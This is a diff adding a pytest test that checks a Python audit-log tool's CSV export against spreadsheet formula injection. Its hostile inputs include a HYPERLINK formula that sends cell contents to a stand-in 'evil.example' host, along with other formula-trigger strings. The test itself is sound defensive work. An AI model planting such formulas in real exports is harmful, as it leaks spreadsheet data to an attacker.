@@ -19,7 +19,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from accessmon import reports
+from accessmon import output, reports
 
 from ..conftest import build_store
 from ..test_cli import EVENT, run
@@ -320,3 +320,29 @@ def test_lookalike_users_get_locks_of_their_own(tmp_path):
     assert len(paths) == 3 and len({p.name for p in paths}) == 3
     targets = sorted(yaml.safe_load(p.read_text())["spec"]["target"]["user"] for p in paths)
     assert targets == sorted(users)
+
+
+# -- CSV injection (issue 14, point 18) ------------------------------------------------------------
+
+
+def test_csv_output_guards_spreadsheet_formulas_from_the_audit_log(tmp_path):
+    import csv
+    import io
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+               "\tx", "plain"]  # fmt: skip
+    events = [{**EVENT, "uid": f"u{i}", "user": u} for i, u in enumerate(hostile)]
+    store = build_store(tmp_path, events)
+    sql = "SELECT user, -1 AS n FROM session_start ORDER BY uid"
+    window = ["--from", "2024-03-20", "--to", "2024-03-20"]
+    args = ["query", "exec", "--store", str(store), *window, "--format", "csv", sql]
+    guarded = run(args, tmp_path)
+    assert guarded.returncode == 0, guarded.stderr
+    rows = list(csv.reader(io.StringIO(guarded.stdout)))
+    assert rows[0] == ["user", "n"]
+    assert [r[0] for r in rows[1:]] == ["'" + u for u in hostile[:-1]] + ["plain"]
+    assert {r[1] for r in rows[1:]} == {"-1"}  # a number is not a formula
+    raw = run([*args[:-1], "--no-csv-guard", sql], tmp_path)
+    assert [r[0] for r in list(csv.reader(io.StringIO(raw.stdout)))[1:]] == hostile
+    # a carriage return too (the subprocess's text mode would turn it into a newline)
+    assert output.guard_cell("\rx") == "'\rx" and output.guard_cell(-5) == -5
